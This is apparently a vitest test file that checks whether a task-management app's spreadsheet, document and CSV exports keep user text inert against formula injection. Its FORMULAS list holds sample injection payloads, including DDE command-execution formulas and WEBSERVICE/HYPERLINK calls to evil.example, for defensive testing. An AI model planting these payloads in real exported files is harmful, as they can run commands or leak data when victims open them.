import fc from 'fast-check';
import { sql } from 'kysely';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { say } from '../../src/locales/say';
import { inTenant } from '../../src/platform/database/tenant';
import { addressOf, type Operation } from '../../src/platform/operation';
import { operations } from '../../src/subjects/registry';
import { arbitraryOf } from './support/arbitrary-of';
import { knock } from './support/knock';
import { activeIn, cellsOf, partsOf, writtenAs } from './support/office-parts';
import { startTwoBodies, type TwoBodies } from './support/two-bodies';

/** What a spreadsheet program would work out if it stood in a cell as something else than text. */
const FORMULAS = [
  '=1+1',
  '+2+3',
  '-4+5',
  '@SUM(1,2)',
  '=HYPERLINK("http://evil.example/","点击")',
  "=cmd|' /C calc'!A0",
  '=WEBSERVICE("http://evil.example/")',
  '\t=6+7',
  '\r=8+9',
  '%0A-10+11',
  '＝1+1',
  '{=1+1}',
  'DDE("cmd";"/C calc";"x")',
  '[x](javascript:alert(1))',
  '{ HYPERLINK "http://evil.example" }',
  '_x003D_1+1',
] as const;

/** Puts the formulas into every text of every row of a body that a person may have written. */
const spoil = async ({ app, own }: TwoBodies): Promise<void> => {
  const columns: [table: string, column: string][] = [
    ['org_units', 'name'],
    ['org_units', 'short_name'],
    ['users', 'name'],
    ['tasks', 'title'],
    ['tasks', 'content'],
    ['tasks', 'section'],
    ['tasks', 'number'],
    ['tasks', 'leader_name'],
    ['progress_reports', 'summary'],
    ['progress_reports', 'problem'],
    ['progress_reports', 'next_step'],
    ['task_comments', 'body'],
    ['milestones', 'title'],
    ['indicators', 'name'],
    ['targets', 'unit'],
    ['targets', 'text'],
  ];
  await inTenant(app.owner, own.tenantId, async db => {
    for (const [table, column] of columns)
      await sql`
        with numbered as (select id, row_number() over (order by id) as place from ${sql.table(table)} where tenant_id = ${own.tenantId})
        update ${sql.table(table)} x set ${sql.ref(column)} = (${[...FORMULAS]}::text[])[1 + (n.place + ${column.length}) % ${FORMULAS.length}]
        from numbered n where x.tenant_id = ${own.tenantId} and x.id = n.id`.execute(db);
  });
  await inTenant(app.owner, own.tenantId, db =>
    db.updateTable('tenants').set({ name: '=1+1', shortName: '=1+1' }).where('tenantId', '=', own.tenantId).execute(),
  );
};

describe('what people wrote leaves as text, whatever it looks like', () => {
  let bodies: TwoBodies;
  const papers = new Map<string, Buffer>();
  // What no office program makes a document of.
  const plain = new Map<string, { type: string; text: string }>();
  beforeAll(async () => {
    bodies = await startTwoBodies();
    const { own, act } = bodies;
    const office = await own.enter('supervisor', 'root');
    // A task for each text, so that none is missed.
    for (const title of FORMULAS)
      await act(office, 'tasks.create', {
        year: 2026,
        source: 'manual',
        title,
        content: title,
        leadUnitId: own.unitIds.get('east'),
        dueOn: '2099-12-31',
      });
    await spoil(bodies);
    const people = [office, await own.enter('auditor', 'root'), await own.enter('administrator', 'root')];
    for (const operation of (operations as readonly Operation[]).filter(({ kind }) => kind === 'read')) {
      const inputs = [
        { year: 2026 },
        ...(fc.sample(arbitraryOf(operation.input, {}), { numRuns: 1, seed: 1 }) as object[]),
      ];
      for (const token of people)
        for (const input of papers.has(operation.name) || plain.has(operation.name) ? [] : inputs) {
          const query = new URLSearchParams(
            Object.entries(input).map(([key, value]) => [key, String(value)]),
          ).toString();
          const answer = await knock(
            bodies.app.app,
            { method: 'GET', url: `${addressOf(operation.name)}?${query}` },
            token,
          );
          if (answer.statusCode !== 200 || !answer.headers['content-disposition']) continue;
          const type = String(answer.headers['content-type']);
          if (type.includes('openxmlformats')) papers.set(operation.name, answer.rawPayload);
          else plain.set(operation.name, { type, text: answer.body });
          break;
        }
    }
    const text = `=1+1年工作要点\n\n一、${FORMULAS[4]}\n${FORMULAS.map((one, at) => `${at + 1}.${one}。新增=1+1${at}所。（牵头单位：${one}）`).join('\n')}`;
    const compiled = await knock(
      bodies.app.app,
      { method: 'POST', url: '/api/compile?as=xlsx', payload: { name: '=1+1.txt', text } },
      null,
    );
    papers.set('compile', compiled.rawPayload);
  });
  afterAll(() => bodies.app.close());

  it('finds every export of the program', () => {
    const known = [
      'audit.exportWorkbook',
      'compile',
      'org.importTemplate',
      'tasks.exportDocument',
      'tasks.exportWorkbook',
    ];
    expect([...papers.keys()]).toEqual(expect.arrayContaining(known));
  });

  it('is an Office document, or JSON, or a table of values none of which begins as a formula does', () => {
    for (const [name, { type, text }] of plain) {
      expect([name, type]).toEqual([name, expect.stringMatching(/^(application\/json|text\/csv)\b/)]);
      const cells = type.startsWith('text/csv') ? text.split(/[\n,;]/) : [];
      expect([name, cells.filter(cell => /^"?[=+@\t\r]/.test(cell))]).toEqual([name, []]);
    }
  });

  it('holds no formula, no field, no link, nothing from outside', () => {
    for (const [name, bytes] of papers) expect([name, activeIn(partsOf(bytes))]).toEqual([name, []]);
  });

  it('writes each text as text, in a cell that stays text when somebody edits it', () => {
    let seen = 0;
    for (const [name, bytes] of papers) {
      const parts = partsOf(bytes);
      for (const text of FORMULAS)
        for (const { type, format } of writtenAs(parts, text)) {
          seen += 1;
          expect([name, text, type, format]).toEqual([name, text, expect.stringMatching(/^(str|inlineStr|s)$/), '@']);
        }
    }
    expect(seen).toBeGreaterThan(FORMULAS.length * 2);
  });

  it('gives back the same texts when it is read again', async () => {
    const cells = new Set(await cellsOf(papers.get('tasks.exportWorkbook')!));
    for (const text of FORMULAS) expect([text, cells.has(text.replace('\r', '\n'))]).toEqual([text, true]);
    const document = partsOf(papers.get('tasks.exportDocument')!).get('word/document.xml')!;
    expect(document).toContain('=HYPERLINK(');
  });

  it('puts no words of people through the templates of the interface', () => {
    const name = '{{name}} $t(refusal:internal) $t(refusal:signed-out)';
    expect(say('zh-CN', 'refusal:already-exists', { name })).toBe(`已经存在：${name}`);
  });
});
